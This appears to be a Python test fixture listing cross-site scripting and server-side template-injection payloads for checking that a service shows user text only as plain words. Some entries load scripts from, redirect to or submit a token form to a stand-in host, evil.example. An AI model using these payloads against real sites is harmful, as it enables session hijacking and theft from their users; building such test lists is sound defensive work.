"""Markup and code of every kind, for every place where a report or a client can put text."""

from __future__ import annotations

MARKUP: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "script-in-capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script-closed-twice": "</script><script>alert(1)</script>",
    "script-within-script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "image-that-fails": '"><img src=x onerror=alert(1)>',
    "image-with-slashes": "<img/src=x/onerror=alert(1)//",
    "image-of-backticks": "<img src=`javascript:alert(1)`>",
    "vector-that-loads": "<svg onload=alert(1)>",
    "vector-that-animates": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "vector-with-a-link": '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>X</text></a>',
    "math-with-a-link": '<math><mtext href="javascript:alert(1)">X</mtext></math>',
    "frame-with-source": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object-of-data": '<object data="data:text/html,alert(1)"></object>',
    "plug-in": "<embed src=//evil.example/x.swf>",
    "base-address": '<base href="//evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=//evil.example/">',
    "link-of-script": '<a href="javascript:alert(1)">click</a>',
    "link-of-script-with-a-tab": '<a href="java&#9;script:alert(1)">click</a>',
    "link-of-data": '<a href="data:text/html;base64,PHNjcmlwdD4=">click</a>',
    "form-elsewhere": '<form action="//evil.example/"><input name=token></form>',
    "button-elsewhere": "<button form=ask formaction=//evil.example/>Ask</button>",
    "style-sheet": "<style>*{background:url(//evil.example/)}</style>",
    "style-of-an-element": '<p style="position:fixed;inset:0">Over all</p>',
    "attribute-with-double-quotes": '" autofocus onfocus="alert(1)',
    "attribute-with-single-quotes": "' autofocus onfocus='alert(1)",
    "attribute-without-quotes": "x onmouseover=alert(1) y",
    "end-of-a-text-box": "</textarea><script>alert(1)</script>",
    "end-of-the-title": "</title><script>alert(1)</script>",
    "end-of-a-vector": "</text></svg><script>alert(1)</script>",
    "end-of-a-list": "</option></select><script>alert(1)</script>",
    "comment": "<!-- --!><img src=x onerror=alert(1)> -->",
    "conditional-comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "character-data": "<![CDATA[<script>alert(1)</script>]]>",
    "instruction": "<?xml-stylesheet href='javascript:alert(1)'?>",
    "template-of-jinja": "{{ 7*7 }}{% for c in ().__class__.__mro__ %}{{ c }}{% endfor %}",
    "template-of-jinja-with-settings": "{{ config.items() }}",
    "template-of-a-browser": "{{constructor.constructor('alert(1)')()}}",
    "template-of-a-shell": "${7*7} #{7*7} <%= 7*7 %> *{7*7}",
    "format-of-python": "{0.__class__} {turn} %(name)s %s%n",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "entities-by-number": "&#60;script&#62;alert(1)&#x3c;/script&#x3e;",
    "entities-twice": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "half-a-tag": "<img src=x onerror=alert(1) ",
    "markdown-link": "[click](javascript:alert(1)) ![x](x)",
    "polyglot": "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//</stYle/</titLe/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>",
}
"""Texts that a page may only ever show as plain words."""
HARMLESS = "plain words of no harm to anybody who reads them in a page of this service at any time of any day "


def harmless(text: str) -> str:
    """Return harmless words of the same length as the given text."""
    return (HARMLESS * (1 + len(text) // len(HARMLESS)))[: len(text)].strip()
